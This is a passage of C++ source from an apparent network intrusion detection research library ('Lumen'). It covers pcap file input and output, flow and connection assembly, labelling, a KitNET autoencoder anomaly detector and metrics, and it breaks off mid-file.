Result<void> write_pcap(const std::string& path, const Trace& trace) {
  FilePtr f(std::fopen(path.c_str(), "wb"));
  if (!f) return Error::make("pcap", "cannot open for write: " + path);

  uint8_t hdr[24] = {};
  put_u32le(hdr, kMagicLe);
  put_u16le(hdr + 4, 2);   // version major
  put_u16le(hdr + 6, 4);   // version minor
  put_u32le(hdr + 8, 0);   // thiszone
  put_u32le(hdr + 12, 0);  // sigfigs
  put_u32le(hdr + 16, kSnapLen);
  put_u32le(hdr + 20, static_cast<uint32_t>(trace.link));
  if (std::fwrite(hdr, 1, sizeof(hdr), f.get()) != sizeof(hdr)) {
    return Error::make("pcap", "short write on header");
  }

  for (const RawPacket& pkt : trace.raw) {
    auto ts_sec = static_cast<uint32_t>(pkt.ts);
    // Rounding the fractional part can produce exactly 1e6 microseconds
    // (e.g. ts = X.9999996); carry into the seconds field instead of
    // wrapping to 0 and losing a whole second.
    auto usec = std::llround((pkt.ts - std::floor(pkt.ts)) * 1e6);
    if (usec >= 1000000) {
      usec -= 1000000;
      ++ts_sec;
    }
    // Honor the advertised snaplen: store at most kSnapLen bytes but keep
    // the true on-the-wire length in orig_len, as libpcap does.
    const size_t incl = std::min<size_t>(pkt.data.size(), kSnapLen);
    uint8_t rec[16];
    put_u32le(rec, ts_sec);
    put_u32le(rec + 4, static_cast<uint32_t>(usec));
    put_u32le(rec + 8, static_cast<uint32_t>(incl));
    put_u32le(rec + 12, pkt.wire_len());
    if (std::fwrite(rec, 1, sizeof(rec), f.get()) != sizeof(rec) ||
        std::fwrite(pkt.data.data(), 1, incl, f.get()) != incl) {
      return Error::make("pcap", "short write on record");
    }
  }
  return {};
}

Result<Trace> read_pcap(const std::string& path) {
  FilePtr f(std::fopen(path.c_str(), "rb"));
  if (!f) return Error::make("pcap", "cannot open for read: " + path);

  uint8_t hdr[24];
  if (std::fread(hdr, 1, sizeof(hdr), f.get()) != sizeof(hdr)) {
    return Error::make("pcap", "truncated global header");
  }
  const uint32_t magic_raw = get_u32(hdr, false);
  bool swap = false;
  if (magic_raw == kMagicLe) {
    swap = false;
  } else if (magic_raw == kMagicBe) {
    swap = true;
  } else {
    return Error::make("pcap", "bad magic number");
  }

  Trace trace;
  const uint32_t link_raw = get_u32(hdr + 20, swap);
  if (link_raw != static_cast<uint32_t>(LinkType::kEthernet) &&
      link_raw != static_cast<uint32_t>(LinkType::kIeee80211)) {
    return Error::make("pcap",
                       "unsupported link type " + std::to_string(link_raw));
  }
  trace.link = static_cast<LinkType>(link_raw);

  for (;;) {
    uint8_t rec[16];
    const size_t got = std::fread(rec, 1, sizeof(rec), f.get());
    if (got == 0) break;  // clean EOF
    if (got != sizeof(rec)) return Error::make("pcap", "truncated record header");
    const uint32_t ts_sec = get_u32(rec, swap);
    const uint32_t ts_usec = get_u32(rec + 4, swap);
    const uint32_t incl = get_u32(rec + 8, swap);
    const uint32_t orig = get_u32(rec + 12, swap);
    if (ts_usec >= 1000000) return Error::make("pcap", "bad record timestamp");
    if (incl > kSnapLen) return Error::make("pcap", "record exceeds snaplen");
    if (orig < incl) return Error::make("pcap", "orig_len below incl_len");
    RawPacket pkt;
    pkt.ts = static_cast<double>(ts_sec) + static_cast<double>(ts_usec) * 1e-6;
    // Keep the true wire length for truncated records so byte-volume
    // features survive a roundtrip of a snaplen-limited capture.
    if (orig > incl) pkt.orig_len = orig;
    pkt.data.resize(incl);
    if (std::fread(pkt.data.data(), 1, incl, f.get()) != incl) {
      return Error::make("pcap", "truncated packet data");
    }
    trace.raw.push_back(std::move(pkt));
  }
  parse_trace(trace);
  return trace;
}

}  // namespace lumen::netio
