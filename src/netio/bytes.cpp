#include "netio/bytes.h"

#include <cstdio>

namespace lumen::netio {

uint16_t internet_checksum(std::span<const uint8_t> data, uint32_t initial) {
  uint32_t sum = initial;
  size_t i = 0;
  for (; i + 1 < data.size(); i += 2) {
    sum += static_cast<uint32_t>((data[i] << 8) | data[i + 1]);
  }
  if (i < data.size()) sum += static_cast<uint32_t>(data[i] << 8);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<uint16_t>(~sum);
}

std::string ipv4_to_string(uint32_t ip) {
  char buf[16];
  std::snprintf(buf, sizeof(buf), "%u.%u.%u.%u", (ip >> 24) & 0xff,
                (ip >> 16) & 0xff, (ip >> 8) & 0xff, ip & 0xff);
  return buf;
}

uint32_t ipv4_from_string(const std::string& s) {
  unsigned a = 0, b = 0, c = 0, d = 0;
  if (std::sscanf(s.c_str(), "%u.%u.%u.%u", &a, &b, &c, &d) != 4) return 0;
  if (a > 255 || b > 255 || c > 255 || d > 255) return 0;
  return (a << 24) | (b << 16) | (c << 8) | d;
}

}  // namespace lumen::netio
