// Flow assembly: grouping packets into unidirectional flows (5-tuple) and
// bidirectional connections (canonicalized 5-tuple), with Zeek-style
// connection summaries. These are the classification units for the
// unidirectional-flow and connection granularities in the paper's taxonomy.
#pragma once

#include <cstdint>
#include <unordered_map>
#include <vector>

#include "netio/packet.h"

namespace lumen::flow {

using netio::IpProto;
using netio::PacketView;
using netio::Trace;

struct FlowKey {
  uint32_t src_ip = 0;
  uint32_t dst_ip = 0;
  uint16_t src_port = 0;
  uint16_t dst_port = 0;
  uint8_t proto = 0;

  bool operator==(const FlowKey&) const = default;

  /// Key for the opposite direction.
  FlowKey reversed() const {
    return FlowKey{dst_ip, src_ip, dst_port, src_port, proto};
  }
};

struct FlowKeyHash {
  size_t operator()(const FlowKey& k) const {
    uint64_t h = 1469598103934665603ULL;
    auto mix = [&h](uint64_t v) {
      h ^= v;
      h *= 1099511628211ULL;
    };
    mix(k.src_ip);
    mix(k.dst_ip);
    mix((static_cast<uint64_t>(k.src_port) << 32) | k.dst_port);
    mix(k.proto);
    return static_cast<size_t>(h);
  }
};

/// A unidirectional flow: all packets sharing one 5-tuple, split by an
/// inactivity timeout.
struct Flow {
  int64_t id = 0;
  FlowKey key;
  std::vector<uint32_t> pkts;  // indices into Trace::view, time-ordered
  double first_ts = 0.0;
  double last_ts = 0.0;
  uint64_t bytes = 0;

  double duration() const { return last_ts - first_ts; }
};

/// A bidirectional connection. `orig` is the direction of the first packet
/// seen (the initiator, for TCP usually the SYN sender).
struct Connection {
  int64_t id = 0;
  FlowKey orig_key;
  std::vector<uint32_t> pkts;
  std::vector<uint8_t> dir;  // aligned with pkts: 0 = orig->resp, 1 = resp->orig
  double first_ts = 0.0;
  double last_ts = 0.0;
  uint64_t orig_pkts = 0;
  uint64_t resp_pkts = 0;
  uint64_t orig_bytes = 0;
  uint64_t resp_bytes = 0;

  double duration() const { return last_ts - first_ts; }
};

/// Zeek conn.log-style connection states.
enum class ConnState : uint8_t {
  kS0,    // initiator SYN seen, no reply
  kSF,    // normal establish + termination
  kREJ,   // connection rejected (SYN -> RST)
  kRSTO,  // originator aborted with RST
  kRSTR,  // responder aborted with RST
  kOTH,   // anything else / non-TCP midstream
};

const char* conn_state_name(ConnState s);

/// Derived Zeek-like summary of a connection.
struct ConnRecord {
  double start = 0.0;
  double duration = 0.0;
  uint8_t proto = 0;
  netio::AppProto service = netio::AppProto::kNone;
  ConnState state = ConnState::kOTH;
  uint64_t orig_pkts = 0, resp_pkts = 0;
  uint64_t orig_bytes = 0, resp_bytes = 0;
  uint32_t retransmissions = 0;  // duplicate TCP sequence numbers seen
};

/// Group IP packets into unidirectional flows. Packets without an IP header
/// are skipped. Flows are split when idle longer than `timeout` seconds.
std::vector<Flow> assemble_uniflows(const Trace& trace, double timeout = 60.0);

/// Group IP packets into bidirectional connections.
std::vector<Connection> assemble_connections(const Trace& trace,
                                             double timeout = 120.0);

/// Compute the Zeek-like summary record for a connection.
ConnRecord summarize(const Connection& conn, const Trace& trace);

/// Majority label over the member packets (ties break malicious). Also
/// returns the dominant non-benign attack tag via `attack_out`. `pkts` must
/// be indices into the label arrays themselves — when labels are aligned
/// with the original capture (the Dataset convention), translate view
/// positions through `trace.view[pos].index` first.
int unit_label(const std::vector<uint32_t>& pkts,
               const std::vector<uint8_t>& pkt_label,
               const std::vector<uint8_t>& pkt_attack, uint8_t* attack_out);

}  // namespace lumen::flow
