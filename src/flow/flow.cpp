#include "flow/flow.h"

#include <algorithm>
#include <map>
#include <set>

namespace lumen::flow {

namespace {

FlowKey key_of(const PacketView& v) {
  return FlowKey{v.src_ip, v.dst_ip, v.src_port, v.dst_port, v.proto_raw};
}

}  // namespace

const char* conn_state_name(ConnState s) {
  switch (s) {
    case ConnState::kS0: return "S0";
    case ConnState::kSF: return "SF";
    case ConnState::kREJ: return "REJ";
    case ConnState::kRSTO: return "RSTO";
    case ConnState::kRSTR: return "RSTR";
    case ConnState::kOTH: return "OTH";
  }
  return "?";
}

std::vector<Flow> assemble_uniflows(const Trace& trace, double timeout) {
  std::vector<Flow> flows;
  std::unordered_map<FlowKey, size_t, FlowKeyHash> active;
  for (uint32_t pos = 0; pos < trace.view.size(); ++pos) {
    const PacketView& v = trace.view[pos];
    if (!v.has_ip) continue;
    const FlowKey k = key_of(v);
    auto it = active.find(k);
    if (it != active.end() && v.ts - flows[it->second].last_ts > timeout) {
      active.erase(it);
      it = active.end();
    }
    if (it == active.end()) {
      Flow f;
      f.id = static_cast<int64_t>(flows.size());
      f.key = k;
      f.first_ts = v.ts;
      f.last_ts = v.ts;
      flows.push_back(std::move(f));
      it = active.emplace(k, flows.size() - 1).first;
    }
    Flow& f = flows[it->second];
    f.pkts.push_back(pos);
    f.last_ts = v.ts;
    f.bytes += v.wire_len;
  }
  return flows;
}

std::vector<Connection> assemble_connections(const Trace& trace,
                                             double timeout) {
  std::vector<Connection> conns;
  // Map both directions to the same connection slot.
  std::unordered_map<FlowKey, size_t, FlowKeyHash> active;
  for (uint32_t pos = 0; pos < trace.view.size(); ++pos) {
    const PacketView& v = trace.view[pos];
    if (!v.has_ip) continue;
    const FlowKey k = key_of(v);
    const FlowKey rk = k.reversed();

    // Both directions map to the same slot; direction is decided against
    // the connection's recorded originator key.
    auto it = active.find(k);
    if (it == active.end()) it = active.find(rk);
    if (it != active.end() && v.ts - conns[it->second].last_ts > timeout) {
      active.erase(conns[it->second].orig_key);
      active.erase(conns[it->second].orig_key.reversed());
      it = active.end();
    }
    if (it == active.end()) {
      Connection c;
      c.id = static_cast<int64_t>(conns.size());
      c.orig_key = k;
      c.first_ts = v.ts;
      c.last_ts = v.ts;
      conns.push_back(std::move(c));
      active.emplace(k, conns.size() - 1);
      active.emplace(rk, conns.size() - 1);
      it = active.find(k);
    }
    Connection& c = conns[it->second];
    const bool orig_dir = k == c.orig_key;
    c.pkts.push_back(pos);
    c.dir.push_back(orig_dir ? 0 : 1);
    c.last_ts = v.ts;
    if (orig_dir) {
      ++c.orig_pkts;
      c.orig_bytes += v.wire_len;
    } else {
      ++c.resp_pkts;
      c.resp_bytes += v.wire_len;
    }
  }
  return conns;
}

ConnRecord summarize(const Connection& conn, const Trace& trace) {
  ConnRecord rec;
  rec.start = conn.first_ts;
  rec.duration = conn.duration();
  rec.orig_pkts = conn.orig_pkts;
  rec.resp_pkts = conn.resp_pkts;
  rec.orig_bytes = conn.orig_bytes;
  rec.resp_bytes = conn.resp_bytes;
  if (conn.pkts.empty()) return rec;

  const PacketView& first = trace.view[conn.pkts.front()];
  rec.proto = first.proto_raw;

  bool syn_orig = false, synack_resp = false, fin_seen = false;
  bool rst_orig = false, rst_resp = false;
  std::set<uint32_t> seq_seen;
  netio::AppProto service = netio::AppProto::kNone;
  for (size_t i = 0; i < conn.pkts.size(); ++i) {
    const PacketView& v = trace.view[conn.pkts[i]];
    if (service == netio::AppProto::kNone && v.app != netio::AppProto::kNone) {
      service = v.app;
    }
    if (v.proto != IpProto::kTcp) continue;
    const bool orig = conn.dir[i] == 0;
    if (v.tcp_flag(netio::kSyn) && !v.tcp_flag(netio::kAck) && orig) {
      syn_orig = true;
    }
    if (v.tcp_flag(netio::kSyn) && v.tcp_flag(netio::kAck) && !orig) {
      synack_resp = true;
    }
    if (v.tcp_flag(netio::kFin)) fin_seen = true;
    if (v.tcp_flag(netio::kRst)) {
      if (orig) rst_orig = true; else rst_resp = true;
    }
    // Retransmission heuristic: repeated (dir, seq) for data-bearing packets.
    if (v.payload_len > 0) {
      const uint32_t tag = v.tcp_seq ^ (orig ? 0u : 0x80000000u);
      if (!seq_seen.insert(tag).second) ++rec.retransmissions;
    }
  }
  rec.service = service;

  if (rec.proto != 6) {
    rec.state = ConnState::kOTH;
  } else if (syn_orig && rst_resp && !synack_resp) {
    rec.state = ConnState::kREJ;
  } else if (syn_orig && !synack_resp) {
    rec.state = ConnState::kS0;
  } else if (rst_orig) {
    rec.state = ConnState::kRSTO;
  } else if (rst_resp) {
    rec.state = ConnState::kRSTR;
  } else if (syn_orig && synack_resp && fin_seen) {
    rec.state = ConnState::kSF;
  } else {
    rec.state = ConnState::kOTH;
  }
  return rec;
}

int unit_label(const std::vector<uint32_t>& pkts,
               const std::vector<uint8_t>& pkt_label,
               const std::vector<uint8_t>& pkt_attack, uint8_t* attack_out) {
  size_t mal = 0;
  std::map<uint8_t, size_t> attack_counts;
  for (uint32_t p : pkts) {
    if (p < pkt_label.size() && pkt_label[p] != 0) {
      ++mal;
      if (p < pkt_attack.size()) ++attack_counts[pkt_attack[p]];
    }
  }
  const int label = (2 * mal >= pkts.size() && mal > 0) ? 1 : 0;
  if (attack_out != nullptr) {
    uint8_t best = 0;
    size_t best_n = 0;
    for (auto [a, n] : attack_counts) {
      if (n > best_n) {
        best = a;
        best_n = n;
      }
    }
    *attack_out = label != 0 ? best : 0;
  }
  return label;
}

}  // namespace lumen::flow
