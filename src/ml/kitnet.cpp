#include "ml/kitnet.h"

#include <algorithm>
#include <cmath>
#include <numeric>

#include "common/parallel.h"
#include "features/stats.h"
#include "ml/dense.h"

namespace lumen::ml {

namespace {
std::unique_ptr<AutoEncoderCore> clone_core(
    const std::unique_ptr<AutoEncoderCore>& p) {
  return p ? std::make_unique<AutoEncoderCore>(*p) : nullptr;
}
}  // namespace

KitNet::KitNet(const KitNet& other)
    : cfg_(other.cfg_),
      clusters_(other.clusters_),
      threshold_(other.threshold_) {
  ensemble_.reserve(other.ensemble_.size());
  for (const auto& ae : other.ensemble_) ensemble_.push_back(clone_core(ae));
  output_ = clone_core(other.output_);
}

KitNet& KitNet::operator=(const KitNet& other) {
  if (this == &other) return *this;
  KitNet copy(other);
  *this = std::move(copy);
  return *this;
}

void KitNet::build_feature_map(const FeatureTable& X,
                               const std::vector<size_t>& rows) {
  const size_t d = X.cols;
  const size_t n = std::min(rows.size(), cfg_.fm_grace);

  // Pairwise correlation distance 1 - |rho| over the grace window.
  std::vector<double> mean(d, 0.0), sd(d, 0.0);
  for (size_t c = 0; c < d; ++c) {
    features::RunningStats rs;
    for (size_t i = 0; i < n; ++i) rs.add(X.at(rows[i], c));
    mean[c] = rs.mean();
    sd[c] = rs.stddev();
  }
  std::vector<double> dist(d * d, 0.0);
  for (size_t a = 0; a < d; ++a) {
    for (size_t b = a + 1; b < d; ++b) {
      double cov = 0.0;
      for (size_t i = 0; i < n; ++i) {
        cov += (X.at(rows[i], a) - mean[a]) * (X.at(rows[i], b) - mean[b]);
      }
      cov /= std::max<double>(1.0, static_cast<double>(n - 1));
      const double denom = sd[a] * sd[b];
      const double rho = denom > 1e-12 ? cov / denom : 0.0;
      const double cd = 1.0 - std::fabs(rho);
      dist[a * d + b] = cd;
      dist[b * d + a] = cd;
    }
  }

  // Agglomerative single-linkage clustering with a size cap: repeatedly
  // merge the closest pair of clusters whose combined size fits.
  std::vector<std::vector<size_t>> cl(d);
  for (size_t c = 0; c < d; ++c) cl[c] = {c};
  auto cluster_dist = [&](const std::vector<size_t>& a,
                          const std::vector<size_t>& b) {
    double best = 1e30;
    for (size_t x : a) {
      for (size_t y : b) best = std::min(best, dist[x * d + y]);
    }
    return best;
  };
  for (;;) {
    double best = 1e30;
    int bi = -1, bj = -1;
    for (size_t i = 0; i < cl.size(); ++i) {
      for (size_t j = i + 1; j < cl.size(); ++j) {
        if (cl[i].size() + cl[j].size() > cfg_.max_cluster_size) continue;
        const double cd = cluster_dist(cl[i], cl[j]);
        if (cd < best) {
          best = cd;
          bi = static_cast<int>(i);
          bj = static_cast<int>(j);
        }
      }
    }
    if (bi < 0) break;
    cl[bi].insert(cl[bi].end(), cl[bj].begin(), cl[bj].end());
    cl.erase(cl.begin() + bj);
  }
  for (auto& c : cl) std::sort(c.begin(), c.end());
  clusters_ = std::move(cl);
}

void KitNet::fit(const FeatureTable& X) {
  const std::vector<size_t> rows = benign_rows(X);
  ensemble_.clear();
  output_.reset();
  clusters_.clear();
  threshold_ = 0.0;
  if (rows.empty() || X.cols == 0) return;

  build_feature_map(X, rows);

  Rng rng(cfg_.seed);
  for (const auto& c : clusters_) {
    ensemble_.push_back(std::make_unique<AutoEncoderCore>(
        c.size(), cfg_.hidden_ratio, cfg_.lr, rng.next()));
  }
  output_ = std::make_unique<AutoEncoderCore>(clusters_.size(),
                                              cfg_.hidden_ratio, cfg_.lr,
                                              rng.next());

  // Online training: each benign instance updates the ensemble, then the
  // output AE is trained on the vector of per-cluster RMSEs.
  std::vector<double> sub;
  std::vector<double> rmses(clusters_.size());
  for (size_t e = 0; e < cfg_.epochs; ++e) {
    for (size_t r : rows) {
      const auto x = X.row(r);
      for (size_t k = 0; k < clusters_.size(); ++k) {
        sub.clear();
        for (size_t f : clusters_[k]) sub.push_back(x[f]);
        rmses[k] = ensemble_[k]->train_sample(sub);
      }
      output_->train_sample(rmses);
    }
  }

  // Training is done: pack every AE's weights for the fused score_rows
  // path (the online hot path; the blocked score() keeps its GEMMs).
  for (auto& ae : ensemble_) ae->seal();
  output_->seal();

  // Calibrate through the same blocked path score() uses, so the threshold
  // and the scores it gates share the same kernel math. The benign rows
  // are gathered into a contiguous table first (benign_rows need not be a
  // prefix when attack rows are interleaved).
  FeatureTable benign;
  benign.cols = X.cols;
  benign.rows = rows.size();
  benign.data.resize(rows.size() * X.cols);
  for (size_t i = 0; i < rows.size(); ++i) {
    const auto row = X.row(rows[i]);
    std::copy(row.begin(), row.end(), benign.data.begin() + i * X.cols);
  }
  std::vector<double> s(rows.size(), 0.0);
  BatchScratch scratch;
  for (size_t lo = 0; lo < rows.size(); lo += dense::kScoreBlock) {
    const size_t hi = std::min(rows.size(), lo + dense::kScoreBlock);
    score_block(benign, lo, hi, s.data() + lo, scratch);
  }
  threshold_ = quantile_threshold(std::move(s), cfg_.quantile);
}

double KitNet::score_row(std::span<const double> x) const {
  ScoreScratch scratch;
  return score_row(x, scratch);
}

double KitNet::score_row(std::span<const double> x,
                         ScoreScratch& scratch) const {
  scratch.rmses.resize(clusters_.size());
  for (size_t k = 0; k < clusters_.size(); ++k) {
    scratch.sub.clear();
    for (size_t f : clusters_[k]) scratch.sub.push_back(x[f]);
    scratch.rmses[k] = ensemble_[k]->score_sample(scratch.sub, scratch.ae);
  }
  return output_->score_sample(scratch.rmses, scratch.ae);
}

void KitNet::score_block(const FeatureTable& X, size_t lo, size_t hi,
                         double* out, BatchScratch& scratch) const {
  const size_t m = hi - lo;
  const size_t n_cl = clusters_.size();
  scratch.rmses.resize(m * n_cl);
  scratch.col.resize(m);
  for (size_t k = 0; k < n_cl; ++k) {
    const std::vector<size_t>& cl = clusters_[k];
    scratch.sub.resize(m * cl.size());
    for (size_t i = 0; i < m; ++i) {
      const auto x = X.row(lo + i);
      double* dst = scratch.sub.data() + i * cl.size();
      for (size_t j = 0; j < cl.size(); ++j) dst[j] = x[cl[j]];
    }
    ensemble_[k]->score_batch(scratch.sub.data(), m, cl.size(),
                              scratch.col.data(), scratch.ae);
    for (size_t i = 0; i < m; ++i) scratch.rmses[i * n_cl + k] = scratch.col[i];
  }
  output_->score_batch(scratch.rmses.data(), m, n_cl, out, scratch.ae);
}

void KitNet::score_rows(const double* x, size_t m, size_t ldx, double* out,
                        RowsScratch& scratch) const {
  if (!output_) {
    std::fill(out, out + m, 0.0);
    return;
  }
  const size_t n_cl = clusters_.size();
  scratch.rmses.resize(m * n_cl);
  scratch.col.resize(m);
  for (size_t k = 0; k < n_cl; ++k) {
    const std::vector<size_t>& cl = clusters_[k];
    scratch.sub.resize(m * cl.size());
    for (size_t i = 0; i < m; ++i) {
      const double* xi = x + i * ldx;
      double* dst = scratch.sub.data() + i * cl.size();
      for (size_t j = 0; j < cl.size(); ++j) dst[j] = xi[cl[j]];
    }
    ensemble_[k]->score_rows(scratch.sub.data(), m, cl.size(),
                             scratch.col.data(), scratch.ae);
    for (size_t i = 0; i < m; ++i) scratch.rmses[i * n_cl + k] = scratch.col[i];
  }
  output_->score_rows(scratch.rmses.data(), m, n_cl, out, scratch.ae);
}

std::vector<double> KitNet::score(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  if (!output_) return out;
  const size_t nblocks =
      (X.rows + dense::kScoreBlock - 1) / dense::kScoreBlock;
  parallel_for(
      0, nblocks,
      [&](size_t blk) {
        const size_t lo = blk * dense::kScoreBlock;
        const size_t hi = std::min(X.rows, lo + dense::kScoreBlock);
        thread_local BatchScratch scratch;
        score_block(X, lo, hi, out.data() + lo, scratch);
      },
      /*min_parallel=*/2);
  return out;
}

std::vector<double> KitNet::score_perrow(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  if (!output_) return out;
  parallel_for(
      0, X.rows,
      [&](size_t r) {
        thread_local ScoreScratch scratch;
        out[r] = score_row(X.row(r), scratch);
      },
      /*min_parallel=*/32);
  return out;
}

std::vector<int> KitNet::predict(const FeatureTable& X) const {
  return threshold_predict(score(X), threshold_);
}

}  // namespace lumen::ml
