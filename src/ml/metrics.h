// Classification metrics: precision, recall, F1, accuracy and a rank-based
// AUC. These are the quantities every Lumen figure reports.
#pragma once

#include <span>
#include <vector>

namespace lumen::ml {

struct Confusion {
  size_t tp = 0, fp = 0, tn = 0, fn = 0;
};

Confusion confusion(std::span<const int> y_true, std::span<const int> y_pred);

/// TP / (TP + FP); defined as 0 when no positives were predicted.
double precision(const Confusion& c);

/// TP / (TP + FN); defined as 0 when no positives exist.
double recall(const Confusion& c);

double f1(const Confusion& c);

double accuracy(const Confusion& c);

/// Area under the ROC curve from continuous scores (Mann-Whitney U /
/// rank-sum formulation, ties handled by midranks). 0.5 when degenerate.
double auc(std::span<const int> y_true, std::span<const double> scores);

}  // namespace lumen::ml
