// Random forest: bagged CART trees with sqrt-feature subsampling.
#pragma once

#include "ml/tree.h"

namespace lumen::ml {

struct ForestConfig {
  size_t n_trees = 20;
  int max_depth = 12;
  size_t min_samples_leaf = 2;
  uint64_t seed = 11;
};

class RandomForest : public Model {
 public:
  explicit RandomForest(ForestConfig cfg = {}) : cfg_(cfg) {}

  void fit(const FeatureTable& X) override;
  std::vector<double> score(const FeatureTable& X) const override;
  std::vector<int> predict(const FeatureTable& X) const override;
  std::string name() const override { return "RandomForest"; }
  bool is_supervised() const override { return true; }

  size_t tree_count() const { return trees_.size(); }

  /// Trees, exposed for persistence.
  const std::vector<DecisionTree>& trees() const { return trees_; }
  void restore(std::vector<DecisionTree> trees) { trees_ = std::move(trees); }

 private:
  ForestConfig cfg_;
  std::vector<DecisionTree> trees_;
};

}  // namespace lumen::ml
