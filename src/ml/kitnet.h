// KitNET — Kitsune's anomaly detector (Mirsky et al., NDSS'18):
// an ensemble of small autoencoders over correlation-clustered feature
// subsets, whose per-cluster reconstruction errors feed an output
// autoencoder. Score = output-layer RMSE; trained online on benign traffic.
#pragma once

#include "ml/mlp.h"
#include "ml/model.h"

namespace lumen::ml {

class KitNet : public Model {
 public:
  struct Config {
    size_t max_cluster_size = 10;   // Kitsune's m
    double hidden_ratio = 0.75;     // beta
    double lr = 0.1;
    size_t fm_grace = 500;          // instances used to learn the feature map
    size_t epochs = 2;              // passes over the benign training stream
    double quantile = 0.97;         // benign-score threshold quantile
    uint64_t seed = 53;
  };

  KitNet() : KitNet(Config{}) {}
  explicit KitNet(Config cfg) : cfg_(cfg) {}

  // Deep copies: a trained KitNet can be cloned, e.g. one detector per
  // ingest consumer thread scoring a disjoint slice of the stream.
  KitNet(const KitNet& other);
  KitNet& operator=(const KitNet& other);
  KitNet(KitNet&&) noexcept = default;
  KitNet& operator=(KitNet&&) noexcept = default;

  void fit(const FeatureTable& X) override;
  std::vector<double> score(const FeatureTable& X) const override;
  std::vector<int> predict(const FeatureTable& X) const override;
  std::string name() const override { return "KitNET"; }
  bool is_supervised() const override { return false; }

  const std::vector<std::vector<size_t>>& clusters() const { return clusters_; }
  double threshold() const { return threshold_; }

  /// Ensemble internals for the model compiler (ml/compiled.*): the fitted
  /// per-cluster cores and the output core (null before fit).
  const AutoEncoderCore* ensemble_core(size_t k) const {
    return ensemble_[k].get();
  }
  const AutoEncoderCore* output_core() const { return output_.get(); }

  /// Reusable buffers for allocation-free single-row scoring. One scratch
  /// serves the whole ensemble plus the output autoencoder.
  struct ScoreScratch {
    std::vector<double> sub;    // per-cluster feature subset
    std::vector<double> rmses;  // per-cluster reconstruction errors
    AutoEncoderCore::ScoreScratch ae;
  };

  /// Score a single feature vector (the streaming path: no table needed).
  double score_row(std::span<const double> x) const;

  /// Same, reusing caller-owned scratch — the per-packet hot path does not
  /// allocate in steady state.
  double score_row(std::span<const double> x, ScoreScratch& scratch) const;

  /// Buffers for blocked batch scoring.
  struct BatchScratch {
    std::vector<double> sub;    // m x |cluster| gathered feature subset
    std::vector<double> col;    // m per-cluster RMSEs before the scatter
    std::vector<double> rmses;  // m x n_clusters output-AE inputs
    AutoEncoderCore::BatchScratch ae;
  };

  /// Pre-PR reference: row-at-a-time score_row loop. Kept for the
  /// batched-vs-per-row equivalence tests and the BENCH_ml baseline.
  std::vector<double> score_perrow(const FeatureTable& X) const;

  /// Buffers for the fused micro-batch path (score_rows).
  struct RowsScratch {
    std::vector<double> sub;    // m x |cluster| gathered feature subset
    std::vector<double> col;    // m per-cluster RMSEs before the scatter
    std::vector<double> rmses;  // m x n_clusters output-AE inputs
    AutoEncoderCore::RowsScratch ae;
  };

  /// Fused micro-batch scoring for the online hot path: out[i] = score of
  /// row i of the m x dim row-major block x (row stride ldx). Per-cluster
  /// gather + packed encode/decode (fit() seals every AE into its
  /// dense::PackedDense panels), with row i's result bit-identical no
  /// matter how the stream is chopped into micro-batches — the live
  /// consumer relies on this to keep alert sets independent of
  /// Options::score_batch. An unfitted model scores zeros.
  void score_rows(const double* x, size_t m, size_t ldx, double* out,
                  RowsScratch& scratch) const;

 private:
  /// Agglomerative clustering on correlation distance, clusters capped at
  /// max_cluster_size (Kitsune's feature-mapping phase).
  void build_feature_map(const FeatureTable& X,
                         const std::vector<size_t>& rows);

  /// Score rows [lo, hi) of X into out[0..hi-lo): gather each cluster's
  /// columns for the whole block, batch-score every ensemble AE, then
  /// batch-score the output AE on the m x n_clusters RMSE matrix.
  void score_block(const FeatureTable& X, size_t lo, size_t hi, double* out,
                   BatchScratch& scratch) const;

  Config cfg_;
  std::vector<std::vector<size_t>> clusters_;
  std::vector<std::unique_ptr<AutoEncoderCore>> ensemble_;
  std::unique_ptr<AutoEncoderCore> output_;
  double threshold_ = 0.0;
};

}  // namespace lumen::ml
