#include "ml/kernel.h"

#include <algorithm>
#include <cmath>
#include <numeric>

#include "common/parallel.h"
#include "features/stats.h"
#include "ml/dense.h"

namespace lumen::ml {

namespace {

/// In-place k[i] = exp(-gamma * k[i]) over a buffer of squared distances.
void rbf_from_sq_dists(size_t n, double gamma, double* k) {
  for (size_t i = 0; i < n; ++i) k[i] *= -gamma;
  dense::exp_sweep(n, k);
}

}  // namespace

double rbf_kernel(std::span<const double> x, std::span<const double> y,
                  double gamma) {
  double d = 0.0;
  const size_t n = std::min(x.size(), y.size());
  for (size_t i = 0; i < n; ++i) {
    const double diff = x[i] - y[i];
    d += diff * diff;
  }
  return std::exp(-gamma * d);
}

double median_heuristic_gamma(const FeatureTable& X, size_t sample,
                              uint64_t seed) {
  if (X.rows < 2) return 1.0;
  Rng rng(seed);
  const size_t n = std::min(sample, X.rows);
  std::vector<size_t> idx(X.rows);
  std::iota(idx.begin(), idx.end(), 0);
  rng.shuffle(idx);
  idx.resize(n);
  // Gather the sample contiguously, then take each row's distances to all
  // later rows in one sq_dist call.
  std::vector<double> rows(n * X.cols);
  for (size_t i = 0; i < n; ++i) {
    const auto r = X.row(idx[i]);
    std::copy(r.begin(), r.end(), rows.begin() + i * X.cols);
  }
  std::vector<double> dists(n * (n - 1) / 2);
  size_t off = 0;
  for (size_t i = 0; i + 1 < n; ++i) {
    dense::sq_dist(n - i - 1, X.cols, rows.data() + i * X.cols,
                   rows.data() + (i + 1) * X.cols, X.cols, dists.data() + off);
    off += n - i - 1;
  }
  const double med = features::median(dists);
  return med > 1e-12 ? 1.0 / med : 1.0;
}

// ---------------------------------------------------------------- Nyström

void NystromMap::fit(const FeatureTable& X) {
  n_features_ = X.cols;
  n_landmarks_ = std::min(cfg_.n_landmarks, X.rows);
  if (n_landmarks_ == 0) return;
  gamma_ = cfg_.gamma > 0.0 ? cfg_.gamma : median_heuristic_gamma(X);

  // Sample landmark rows.
  std::vector<size_t> idx(X.rows);
  std::iota(idx.begin(), idx.end(), 0);
  Rng rng(cfg_.seed);
  rng.shuffle(idx);
  idx.resize(n_landmarks_);
  landmarks_.assign(n_landmarks_ * n_features_, 0.0);
  for (size_t i = 0; i < n_landmarks_; ++i) {
    const auto row = X.row(idx[i]);
    std::copy(row.begin(), row.end(),
              landmarks_.begin() + static_cast<std::ptrdiff_t>(i * n_features_));
  }
  landmark_norms_.resize(n_landmarks_);
  dense::row_sq_norms(n_landmarks_, n_features_, landmarks_.data(),
                      n_features_, landmark_norms_.data());

  // K_mm and its inverse square root via eigendecomposition. The whole
